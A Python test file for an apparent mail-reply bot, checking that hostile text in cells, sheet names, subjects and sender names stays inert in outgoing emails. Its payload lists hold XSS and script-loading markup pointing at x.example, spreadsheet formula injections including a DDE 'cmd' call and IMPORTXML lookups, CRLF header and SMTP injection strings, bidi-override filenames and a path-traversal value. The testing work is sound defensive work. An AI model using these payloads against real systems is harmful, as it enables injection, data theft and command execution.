"""Whatever stands in a cell, a sheet's or a file's name, a subject or a sender's name stays text in our mails."""

from __future__ import annotations

import base64
import re
import unicodedata
from dataclasses import asdict, replace
from email import message_from_bytes, policy
from email.message import EmailMessage
from functools import cache
from typing import TYPE_CHECKING

import pytest
from lxml import html

from bot.model import Enclosure, Outcome, RefusalReason, Severity, SheetPlace, Understanding
from bot.preview.findings import finding
from bot.preview.mails import SENDER
from bot.preview.samples import ALERT, HEADING, NOW, OWED_1, SHA, checked_part, decision, refused_part
from bot.reply.compose import compose
from bot.reply.contexts import KINDS
from tests.reply.test_render import CONTEXTS
from tests.reply.writers import RENDERER, WRITER

if TYPE_CHECKING:
    from bot.model import Outgoing
    from bot.reply.letter import Letter

MARKUP = (
    '<script src="//x.example/a.js"></script>',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</td></tr></table>",
    '" onmouseover="alert(1)',
    "' style='x:expression(1)",
    "<!-- x",
    "--> <b>",
    "<![CDATA[<i>]]>",
    "</style><style>*{display:none}",
    "<iframe srcdoc='<p>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href=//x.example>",
    "<meta http-equiv=refresh content=0>",
    "&lt;b&gt;",
    "&#60;b&#62;",
    "&#x3c;b&#x3e;",
    "<\u0000script>",
    "<ｓcript>",
    "<form action=//x.example><input>",
    "<link rel=stylesheet href=//x>",
    "<?php echo 1 ?>",
    "<%= 7*7 %>",
    "{{ 7*7 }}",
    "{% raw %}",
    "{# x #}",
    "${7*7}",
    "#{7*7}",
    "{{ office.__class__ }}",
    "<o:p>x</o:p>",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://x.example","x")',
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "＝1+1",
    "'=1+1",
    "%0A=1+1",
)
HEADERS = (
    "x\r\nBcc: a@x.example",
    "x\nBcc: a@x.example",
    "x\rBcc: a@x.example",
    "x\r\n\r\n<b>thân thư</b>",
    "x\u2028Bcc: a@x.example",
    "x\u2029Bcc: a@x.example",
    "x\x0bBcc: a@x.example",
    "x\x0cBcc: a@x.example",
    "x\x85Bcc: a@x.example",
    "x%0d%0aBcc: a@x.example",
    "x\r\n.\r\nMAIL FROM:<a@x.example>",
    "x\r\nContent-Type: text/html",
    "--=_boundary--",
    "x\\r\\nBcc: a@x.example",
    "=?utf-8?B?" + base64.b64encode(b"x\r\nBcc: a@x.example").decode() + "?=",
    "=?utf-8?Q?=0D=0ABcc:_a@x.example?=",
    "=?iso-8859-1?q?x?=\r\n =?iso-8859-1?q?y?=",
    "=?utf-8?B?////?=",
    "=?x",
    "a@x.example, b@x.example",
    '"x" <a@x.example>',
    "x;\r\n filename=y.exe",
)
ODD = (
    *(f"x{chr(code)}y" for code in (0, 1, 7, 8, 0x1B, 0x7F, 0x80, 0x9B, 0xAD)),
    *(f"a{mark}gnp.exe" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"),
    *(
        "\ud800",
        "x\udfff",
        "\udc80\udc80",
        "\ufeffx",
        "\u200b\u200c\u200d",
        "\U000e0041\U000e0042",
        "\ufffe",
        "\x00" * 50,
    ),
    *("A" * 10_000, "ắ" * 10_000, "😀" * 500, "e" + "\u0301" * 300, " " * 500, "../../etc/passwd", "con", "مرحبا"),
)
PAYLOADS = tuple(
    form for one in (*MARKUP, *FORMULAS, *HEADERS, *ODD) for form in (one, f"KCN {one} Vinh", f"{one} {one}")
)
_WORD_OF_OURS = re.compile(r"^[a-z0-9_-]*$")


def test_there_are_at_least_two_hundred() -> None:
    assert len(set(PAYLOADS)) >= 200


def returned(text: str) -> Outgoing:
    """Return the mail about a workbook, one of two, that is full of *text*; sent by and under *text*."""
    found = finding("J14", say=text, fix=text, title=text, column=text, sheet=text, written=text)
    asked = finding("J15", severity=Severity.QUERY, say=text, rule=text, column=text, sheet=text, written=text)
    noted = finding("J16", severity=Severity.NOTE, title=text)
    part = checked_part(
        found,
        asked,
        noted,
        understood=(Understanding(text, "Q", text, text),),
        sheets=(SheetPlace(text, {}, 8, 3),),
    )
    unread = refused_part(RefusalReason.WRONG_TYPE, text, detail=text)
    given = decision(Outcome.RETURNED, replace(part, file=text), unread, documents=(text,), owed=(OWED_1,))
    heading = replace(HEADING, subject=text, sender_name=text, message_id=text, references=(text,), in_reply_to=text)
    mail = WRITER.build_reply(given, heading, SHA, NOW, marked=[Enclosure(text, b"PK", text)])
    assert mail is not None
    return mail


def refused(text: str) -> Outgoing:
    part = refused_part(RefusalReason.AMBIGUOUS_FORM, text, detail=text)
    given = decision(Outcome.REFUSED, part, reason=RefusalReason.AMBIGUOUS_FORM, owed=(OWED_1,))
    mail = WRITER.build_reply(given, replace(HEADING, subject=text, sender_name=text), SHA, NOW)
    assert mail is not None
    return mail


def alarmed(text: str) -> Outgoing:
    return WRITER.build_alert(replace(ALERT, cause=text, other_side=text), ("truc@bo.example",))


KINDS_OF_MAIL = (returned, refused, alarmed)


def skeleton(page: str) -> set[tuple[str, tuple[tuple[str, str], ...]]]:
    """Return each tag of a page with its attributes, so that a new one shows; what a picture tells may differ."""
    told = {"alt", "src"}
    return {
        (str(one.tag), tuple(sorted((str(key), "" if key in told else str(one.get(key))) for key in one.attrib)))
        for one in html.document_fromstring(page).iter()
    }


@cache
def harmless(build: int) -> Outgoing:
    return KINDS_OF_MAIL[build]("KCN Nam Cấm")


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_a_payload_stays_text(number: int) -> None:
    build = number % len(KINDS_OF_MAIL) if number % 2 else 0
    mail, model = KINDS_OF_MAIL[build](PAYLOADS[number]), harmless(build)
    assert skeleton(mail.html) <= skeleton(model.html)
    raw = compose(mail, SENDER, NOW).raw
    parsed = message_from_bytes(raw, policy=policy.default)
    assert isinstance(parsed, EmailMessage)
    expected = message_from_bytes(compose(model, SENDER, NOW).raw, policy=policy.default)
    threading = {"In-Reply-To", "References"}  # only a Message-ID that is one is told
    assert set(parsed.keys()) <= set(expected.keys()) | threading
    assert parsed["To"] == expected["To"]
    assert len(list(parsed.walk())) == len(list(expected.walk()))
    for value in (*parsed.values(), *(one.get_filename("") for one in parsed.iter_attachments())):
        assert not [char for char in str(value) if unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"}]
    text = parsed.get_body(("plain",))
    assert text is not None
    lines = str(text.get_content()).splitlines()
    assert lines
    assert not [line for line in lines if re.match(r"(Bcc|Content-Type|MAIL FROM)\b", line)]
    bad = [
        char for line in lines for char in line if unicodedata.category(char) in {"Cc", "Cs"} or char in "\u202e\u2066"
    ]
    assert not bad


def dressed(value: object, payload: str) -> object:
    """Return a context's values with *payload* behind every text that people read."""
    if isinstance(value, dict):
        return {key: dressed(one, payload) for key, one in value.items()}
    if isinstance(value, (tuple, list)):
        return tuple(dressed(one, payload) for one in value)
    return value + payload if isinstance(value, str) and not _WORD_OF_OURS.match(value) else value


@pytest.mark.parametrize("context", CONTEXTS.values(), ids=CONTEXTS)
def test_no_template_lets_a_value_become_a_tag(context: Letter) -> None:
    kind, values = KINDS[type(context)], asdict(context)

    def written(payload: str) -> str:
        return RENDERER.render_values(kind, {key: dressed(one, payload) for key, one in values.items()}).html

    assert skeleton(written("\"><b onclick=x>'<i>")) == skeleton(written(" xyz"))
